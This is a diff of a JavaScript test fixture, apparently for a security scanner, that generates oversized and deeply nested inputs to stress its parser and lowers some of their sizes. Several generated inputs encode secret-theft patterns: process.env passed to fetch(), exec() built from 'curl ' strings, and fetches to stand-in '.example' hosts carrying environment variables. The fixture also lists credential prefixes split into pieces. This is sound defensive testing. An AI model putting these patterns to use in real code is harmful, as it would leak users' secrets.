@@ -23,17 +23,18 @@ const lines = (make, size) => {
 /** Prefixes of well-known credentials, in pieces: no text here looks like a credential. */
 const PREFIXES = ['ey' + 'J', 'sk' + '-', 'gh' + 'p_', 'AK' + 'IA', 'xo' + 'xb-', '-----BEGIN ' + 'RSA PRIVATE KEY-----'];
 
+/** Sizes of nested JavaScript stay below what plain ESLint itself survives. */
 export const SHAPES = [
   // JavaScript: aliases, strings and calls
   { name: 'js: chain of aliases', file: 'a.js', size: 400 * KB, make: (size) => `const a0 = process.env;\n${lines((i) => `const a${i + 1} = a${i};`, size)}` },
   { name: 'js: one reassigned variable', file: 'a.js', size: 400 * KB, make: (size) => `let a = process.env;\n${lines((i) => `a = a.x${i} || process.env;`, size)}\nfetch(a);` },
   { name: 'js: concatenation in one line', file: 'a.js', size: 40 * KB, make: (size) => `exec(${repeat('"curl " + ', size)}"x");` },
   { name: 'js: doubling strings', file: 'a.js', size: 100 * KB, make: (size) => `const s0 = 'curl ';\n${lines((i) => `const s${i + 1} = s${i} + s${i};`, size)}\nexec(s${60});` },
-  { name: 'js: template in template', file: 'a.js', size: 20 * KB, make: (size) => `exec(${nest('`${', 'x', '}`', size, 800)});` },
+  { name: 'js: template in template', file: 'a.js', size: 400, make: (size) => `exec(${nest('`${', 'x', '}`', size)});` },
   { name: 'js: conditionals without end', file: 'a.js', size: 20 * KB, make: (size) => `exec(${repeat('x ? "a" : ', size).slice(0, -1)} "b");` },
   { name: 'js: many calls', file: 'a.js', size: 400 * KB, make: (size) => lines((i) => `fetch('https://h${i}.example/' + process.env.K${i});`, size) },
-  { name: 'js: member chain', file: 'a.js', size: 20 * KB, make: (size) => `a${repeat('.b', size)}();` },
-  { name: 'js: call chain', file: 'a.js', size: 20 * KB, make: (size) => `a${repeat('.b()', size)};` },
+  { name: 'js: member chain', file: 'a.js', size: 3 * KB, make: (size) => `a${repeat('.b', size)}();` },
+  { name: 'js: call chain', file: 'a.js', size: 3 * KB, make: (size) => `a${repeat('.b()', size)};` },
   { name: 'js: large array of strings', file: 'a.js', size: 1 * MB, make: (size) => `export default [\n${lines((i) => `'value ${i} of this list',`, size)}\n];` },
   { name: 'js: one long string', file: 'a.js', size: 1 * MB, make: (size) => `export default '${repeat('a', size)}';` },
   { name: 'js: prototype names', file: 'a.js', size: 200 * KB, make: (size) => lines((i) => `const { __proto__: p${i}, constructor: c${i}, toString: t${i} } = globalThis['__proto__']['hasOwnProperty'];`, size) },
